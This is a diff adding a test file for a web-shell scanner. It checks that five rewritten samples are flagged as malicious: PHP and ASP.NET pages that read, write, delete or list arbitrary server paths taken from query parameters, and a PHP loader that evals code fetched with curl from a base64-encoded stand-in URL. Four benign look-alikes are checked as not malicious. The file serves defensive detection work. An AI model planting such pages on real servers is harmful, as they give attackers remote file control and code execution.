@@ -1,0 +1,77 @@
+import { describe, it } from 'node:test';
+import assert from 'node:assert/strict';
+import { createScanner } from './scanner.js';
+
+// The misses of session 42's fair samples (bench/redteam/README-corpus-s42.md), each written again by us, and the
+// look-alikes that must not be malicious.
+const scanner = createScanner({});
+const scan = (src: string, path: string) => scanner.scanBuffer(Buffer.from(src, 'utf8'), path);
+const why = (r: { score: number; findings: readonly { rule: string; score: number }[] }) => `${r.score}: ${r.findings.map((f) => `${f.rule} ${f.score}`).join(', ')}`;
+
+const PAGES: [string, string, string][] = [
+  [
+    'a file manager whose folder is the query\'s or a default of its own, writing, deleting and listing there (H35)',
+    '/srv/www/fm.php',
+    `<?php\n$home = getcwd();\n$dir = $_GET['d'] ?? $home;\nif (isset($_POST['rm'])) {\n  $p = $_POST['rm'];\n  if (is_file($p)) unlink($p);\n}\nif (isset($_POST['name'])) {\n  $to = $_POST['to'] ?? $dir;\n  $t = rtrim($to, DIRECTORY_SEPARATOR) . DIRECTORY_SEPARATOR . $_POST['name'];\n  file_put_contents($t, $_POST['body'] ?? '');\n}\nforeach (scandir($dir) as $e) echo htmlspecialchars($e), "<br>";\n`,
+  ],
+  [
+    'the same with the default in a ternary and the path read out (H35)',
+    '/srv/www/fm2.php',
+    `<?php\n$start = __DIR__;\n$at = isset($_GET['at']) ? $_GET['at'] : $start;\nif (!empty($_GET['del'])) unlink($at . '/' . $_GET['del']);\nif (!empty($_GET['show'])) echo htmlspecialchars(file_get_contents($at . '/' . $_GET['show']));\n`,
+  ],
+  [
+    'a loader evaluating what a function of its own fetches with curl, "?>" held in a variable first (H35)',
+    '/srv/www/wp-content/l.php',
+    `<?php\nini_set('lsapi_backend_off', '1');\nfunction pull($u) {\n  $h = curl_init($u);\n  curl_setopt($h, CURLOPT_RETURNTRANSFER, true);\n  $r = curl_exec($h);\n  curl_close($h);\n  return $r;\n}\n$open = '?>';\neval($open . pull(base64_decode('aHR0cDovL2V4YW1wbGUuaW52YWxpZC9wLnR4dA==')));\n`,
+  ],
+  [
+    'an ASP.NET page listing and reading any path given base64 in the query (H37)',
+    '/inetpub/wwwroot/v.aspx',
+    `<%@ Page Language="C#" %>\n<%@ Import Namespace="System.IO" %>\n<%\nstring p64 = Request.QueryString["p"];\nstring what = Request.QueryString["do"] ?? "ls";\nstring target = System.Text.Encoding.UTF8.GetString(Convert.FromBase64String(p64));\nif (what == "ls") {\n  foreach (string d in Directory.GetDirectories(target)) Response.Write(Server.HtmlEncode(d) + "<br>");\n  foreach (string f in Directory.GetFiles(target)) Response.Write(Server.HtmlEncode(f) + "<br>");\n} else {\n  Response.Write("<pre>" + Server.HtmlEncode(File.ReadAllText(target)) + "</pre>");\n}\n%>\n`,
+  ],
+  [
+    'an ASP.NET page deleting any path and writing a file whose text comes base64 in the query too (H37)',
+    '/inetpub/wwwroot/w.aspx',
+    `<%@ Page Language="C#" %>\n<%@ Import Namespace="System.IO" %>\n<%\nstring at = Encoding.UTF8.GetString(Convert.FromBase64String(Request["at"]));\nswitch (Request["op"]) {\n  case "rm": if (File.Exists(at)) File.Delete(at); else Directory.Delete(at, true); break;\n  case "put": File.WriteAllText(at, Encoding.UTF8.GetString(Convert.FromBase64String(Request["text"]))); break;\n}\n%>\n`,
+  ],
+];
+
+const LOOKALIKES: [string, string, string][] = [
+  [
+    'a page choosing its template from the query or a default, checked against a list',
+    '/srv/www/index.php',
+    `<?php\n$default = 'home';\n$page = $_GET['page'] ?? $default;\nif (!in_array($page, ['home', 'about', 'contact'], true)) $page = $default;\necho '<h1>' . htmlspecialchars($page) . '</h1>';\nreadfile(__DIR__ . '/pages/' . $page . '.html');\n`,
+  ],
+  [
+    'a template engine evaluating its compiled template from a local cache file after "?>"',
+    '/srv/www/lib/tpl.php',
+    `<?php\nfunction render($name, array $vars) {\n  $close = '?>';\n  $cached = __DIR__ . '/cache/' . md5($name) . '.php';\n  extract($vars);\n  eval($close . file_get_contents($cached));\n}\n`,
+  ],
+  [
+    'an ASP.NET document viewer reading files under its own folder',
+    '/inetpub/wwwroot/docs.aspx',
+    `<%@ Page Language="C#" %>\n<%@ Import Namespace="System.IO" %>\n<%\nstring root = Server.MapPath("~/docs");\nforeach (string f in Directory.GetFiles(root)) Response.Write(Path.GetFileName(f) + "<br>");\nstring name = Request.QueryString["f"];\nif (!string.IsNullOrEmpty(name)) Response.Write(Server.HtmlEncode(File.ReadAllText(Path.Combine(root, Path.GetFileName(name)))));\n%>\n`,
+  ],
+  [
+    'an ASP.NET admin page whose paths are held under its root',
+    '/inetpub/wwwroot/admin/files.aspx',
+    `<%@ Page Language="C#" %>\n<%@ Import Namespace="System.IO" %>\n<%\nstring root = @"D:\\sites\\shop\\uploads\\";\nstring p = Encoding.UTF8.GetString(Convert.FromBase64String(Request["p"]));\nif (!Path.GetFullPath(p).StartsWith(root, StringComparison.OrdinalIgnoreCase)) { Response.StatusCode = 403; return; }\nforeach (string f in Directory.GetFiles(p)) Response.Write(f + "<br>");\nif (Request["rm"] == "1") File.Delete(p);\n%>\n`,
+  ],
+];
+
+describe('scan: session 42 samples, the misses written again', () => {
+  for (const [name, path, src] of PAGES) {
+    it(`malicious: ${name}`, () => {
+      const r = scan(src, path);
+      assert.equal(r.verdict, 'malicious', why(r));
+    });
+  }
+  it('ran every page', () => assert.equal(PAGES.length, 5));
+  for (const [name, path, src] of LOOKALIKES) {
+    it(`not malicious: ${name}`, () => {
+      const r = scan(src, path);
+      assert.notEqual(r.verdict, 'malicious', why(r));
+    });
+  }
+  it('ran every look-alike', () => assert.equal(LOOKALIKES.length, 4));
+});
